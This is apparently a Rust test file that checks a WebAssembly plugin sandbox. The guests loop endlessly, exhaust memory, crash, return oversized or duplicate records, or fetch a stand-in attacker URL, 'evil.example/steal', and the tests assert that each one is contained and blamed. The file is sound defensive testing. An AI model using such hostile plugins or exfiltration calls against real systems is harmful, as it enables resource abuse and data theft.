//! Plugins that loop, eat memory, crash or ask for a host that they may not have: the run fails and says so, the plugin
//! is blamed, and what was there before stays (security.md PL-1, PL-2, PL-5). And plugins that pass on what their provider
//! should not have given.

use serde_json::{Value, json};

use super::guest;
use crate::support::{Options, World};

/// Connects a shop whose provider has this plugin and waits for its first runs; gives the world and the runs.
async fn run(test: &str, more: &str, body: &str) -> (World, String, Vec<Value>) {
    let component = guest::component(more, body);
    let plugins = Some(guest::folder(test, &guest::manifest(), Some(&component)));
    let world = World::start(Options { plugins, ..Options::default() }).await;
    let integration = world.acme_integration().await;
    let connection = world.connect_acme(&integration, "merchant-1", "shop_north").await;
    let runs = world.synced(&connection).await;
    (world, connection, runs)
}

/// Asserts that a hostile plugin is blamed in words that contain these, and that nothing else came to harm.
async fn is_blamed(test: &str, more: &str, body: &str, words: &[&str]) {
    let (world, connection, runs) = run(test, more, body).await;
    assert_eq!(runs.len(), 2, "{runs:?}");
    for run in &runs {
        assert_eq!((run["state"].as_str(), run["error"]["blame"].as_str()), (Some("failed"), Some("plugin")), "{run}");
        let message = run["error"]["message"].as_str().unwrap();
        assert!(words.iter().all(|word| message.contains(word)), "{words:?} are not in: {message}");
    }
    // The connection is as it was: nobody asks its end user to connect again for a plugin's fault.
    let shown = world.key().get(&format!("/v1/connections/{connection}")).await.ok();
    assert_eq!(shown["health"]["state"], "active", "{shown}");
    world.key().get(&format!("/v1/connections/{connection}/credential")).await.ok();
    let request = world
        .key()
        .request(http::Method::GET, "/v1/proxy/v1/orders?limit=1")
        .header("patchbay-connection", &connection)
        .send()
        .await;
    request.ok();
    assert_eq!(world.anonymous().get("/readyz").await.status, 200);
    let kinds = world.one("SELECT count(*) FROM events WHERE kind = 'sync.failed'").await;
    assert_eq!(kinds, "2", "the tenant is told");
    world.end().await;
}

async fn log_of(world: &World, run: &Value) -> String {
    world.key().get(&format!("/v1/runs/{}/logs", run["id"].as_str().unwrap())).await.ok()["data"].to_string()
}

/// Gives a page of records that lie in memory: where the id of each begins and how long it is, and the same of its body.
fn page(records: &[[u32; 4]]) -> String {
    let words = records.iter().flatten().zip((2048_u32..).step_by(4));
    let items: String = words.map(|(word, at)| format!("(i32.store (i32.const {at}) (i32.const {word}))")).collect();
    format!(
        "{items} (i32.store (i32.const 1028) (i32.const 2048)) (i32.store (i32.const 1032) (i32.const {}))",
        records.len()
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn of_records_with_one_id_in_a_page_the_last_counts_and_the_log_says_so() {
    let more = r#"(data (i32.const 3000) "a{\"v\":1}7{\"v\":3}{\"v\":2}")"#;
    let body = page(&[[3000, 1, 3001, 7], [3008, 1, 3009, 7], [3000, 1, 3016, 7]]);
    let (world, connection, runs) = run("doublets", more, &body).await;
    for run in &runs {
        assert_eq!((&run["state"], &run["counts"]["added"]), (&json!("succeeded"), &json!(2)), "{run}");
        let log = log_of(&world, run).await;
        assert!(log.contains("under an id that it gives again, such as `a`; the last one counts"), "{log}");
    }
    for stream in ["orders", "customers"] {
        let records = world.records(&connection, stream).await;
        let kept: Vec<_> = records.iter().map(|record| (&record["id"], &record["data"]["v"])).collect();
        assert_eq!(kept, [(&json!("7"), &json!(3)), (&json!("a"), &json!(2))], "{stream}");
    }
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_record_of_ten_megabytes_is_refused_by_its_id() {
    const LENGTH: u32 = 10 << 20;
    const BODY: u32 = 200_000;
    // `{"a":"xxx…"}`
    let more = r#"(data (i32.const 3000) "a") (data (i32.const 5000) "{\"a\":\"\"}")"#;
    let body = format!(
        "(drop (memory.grow (i32.const 170)))
         (memory.fill (i32.const {BODY}) (i32.const 120) (i32.const {LENGTH}))
         (memory.copy (i32.const {BODY}) (i32.const 5000) (i32.const 6))
         (memory.copy (i32.const {}) (i32.const 5006) (i32.const 2))
         {}",
        BODY + LENGTH - 2,
        page(&[[3000, 1, BODY, LENGTH]])
    );
    is_blamed("ten-megabytes", more, &body, &["the record `a` has 10485760 bytes", "4194304 are allowed"]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn pl_1_a_plugin_that_loops_is_ended() {
    is_blamed("loops", "", "(loop $on (br $on))", &["the plugin used more than", "endless loop"]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn pl_1_a_plugin_that_eats_memory_is_ended() {
    is_blamed(
        "eats",
        "",
        "(loop $on (drop (memory.grow (i32.const 1))) (br $on))",
        &["the plugin wanted", "bytes of memory", "allowed"],
    )
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn pl_1_a_plugin_that_crashes_says_where() {
    is_blamed("crashes", "(func $wobble unreachable)", "(call $wobble)", &["crashed", "wobble"]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn pl_2_a_plugin_that_asks_for_a_host_of_its_own_is_told_the_line_to_add() {
    let url = "https://evil.example/steal";
    let more = format!(r#"(data (i32.const 5000) "GET{url}")"#);
    // Fetches, fails if that was let through, and writes the fault's words into the run's log.
    let body = format!(
        "(call $fetch (i32.const 5000) (i32.const 3) (i32.const 5003) (i32.const {}) (i32.const 0) (i32.const 0)
            (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 7000))
        (if (i32.eqz (i32.load8_u (i32.const 7000))) (then unreachable))
        (if (i32.load8_u (i32.const 7004)) (then unreachable))
        (call $log (i32.const 2) (i32.load (i32.const 7008)) (i32.load (i32.const 7012)))",
        url.len()
    );
    let (world, _, runs) = run("host", &more, &body).await;
    for run in &runs {
        assert_eq!(run["state"], "succeeded", "a denial is an answer, no crash: {run}");
        let text = log_of(&world, run).await.replace("\\\"", "\"");
        assert!(text.contains("evil.example is not on the list"), "{text}");
        assert!(text.contains("Add `hosts = [\"evil.example\"]` under [api] in provider.toml"), "{text}");
    }
    world.end().await;
}
